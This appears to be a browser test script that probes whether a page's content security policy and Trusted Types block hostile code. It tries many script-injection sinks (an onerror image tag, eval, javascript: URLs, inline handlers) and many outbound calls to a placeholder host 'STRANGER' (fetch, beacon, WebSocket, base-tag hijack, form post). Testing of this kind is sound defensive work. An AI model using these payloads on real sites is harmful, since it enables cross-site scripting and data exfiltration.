// Same-origin code that tries everything a stranger's code would. It runs in the page under test: the test adds it with
// a script tag, because code that the test driver evaluates is not bound by the policy. STRANGER is another host.
(async () => {
  const results = {};
  const attempt = (name, run) => {
    try {
      results[name] = run() ?? 'no error';
    } catch (error) {
      results[name] = error.name;
    }
  };
  const add = (tag, properties) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  };
  globalThis.ran = 0;

  // Text that becomes code
  attempt('innerHTML', () => {
    document.body.innerHTML += '<img src=x onerror="ran++">';
  });
  attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>'));
  attempt('DOMParser', () => new DOMParser().parseFromString('<b>', 'text/html') && 'parsed');
  attempt('document.write', () => document.write('<b>'));
  // biome-ignore lint/security/noGlobalEval: it must be refused.
  attempt('eval', () => eval('ran++'));
  attempt('Function', () => new Function('ran++')());
  attempt('timer', () => setTimeout('ran++', 0) && 'set');
  attempt('script text', () => {
    const script = document.createElement('script');
    script.append('ran++');
    document.body.append(script);
  });
  attempt('remote script', () => add('script', { src: 'STRANGER/script' }));
  attempt('handler', () => {
    const button = add('button', {});
    button.setAttribute('onclick', 'ran++');
    button.click();
  });
  attempt('javascript:', () => add('a', { href: 'javascript:ran++' }).click());
  attempt('new policy', () => trustedTypes.createPolicy('stranger', { createHTML: text => text }) && 'made');

  // Styles
  attempt('style attribute', () => {
    const text = add('p', {});
    text.setAttribute('style', 'color: rgb(255, 0, 0)');
    return getComputedStyle(text).color === 'rgb(255, 0, 0)' ? 'applied' : 'blocked';
  });
  attempt('style element', () => {
    const style = add('style', { textContent: 'h1 { color: rgb(1, 2, 3) }' });
    return getComputedStyle(document.querySelector('h1')).color === 'rgb(1, 2, 3)'
      ? 'applied'
      : style.tagName;
  });

  // Workers
  attempt('worker', () => new Worker('/theme.js') && 'made');
  attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(['1']))) && 'made');
  results['service worker'] = await (async () => navigator.serviceWorker.register('/theme.js'))().then(
    () => 'registered',
    error => error.name,
  );

  // Ways out
  results['import'] = await import('STRANGER/module').then(
    () => 'imported',
    error => error.name,
  );
  results['fetch'] = await fetch('STRANGER/fetch').then(
    () => 'sent',
    error => error.name,
  );
  attempt('beacon', () => `${navigator.sendBeacon('STRANGER/beacon', 'x')}`);
  attempt('socket', () => `${new WebSocket('STRANGER/socket'.replace('http', 'ws'))}`);
  attempt('events', () => `${new EventSource('STRANGER/events')}`);
  attempt('image', () => add('img', { src: 'STRANGER/image' }).tagName);
  attempt('frame', () => add('iframe', { src: 'STRANGER/frame' }).tagName);
  attempt('style sheet', () => add('link', { rel: 'stylesheet', href: 'STRANGER/css' }).tagName);
  attempt('prefetch', () => add('link', { rel: 'prefetch', href: 'STRANGER/prefetch' }).tagName);
  attempt('object', () => add('object', { data: 'STRANGER/object' }).tagName);
  attempt('base', () => {
    const base = document.createElement('base');
    base.href = 'STRANGER/';
    document.head.prepend(base);
    return document.baseURI.startsWith('STRANGER') ? 'applied' : 'blocked';
  });
  attempt('form', () => add('form', { method: 'post', action: 'STRANGER/form' }).submit());
  await new Promise(resolve => setTimeout(resolve, 500));
  globalThis.attack = { results, ran: globalThis.ran };
})();
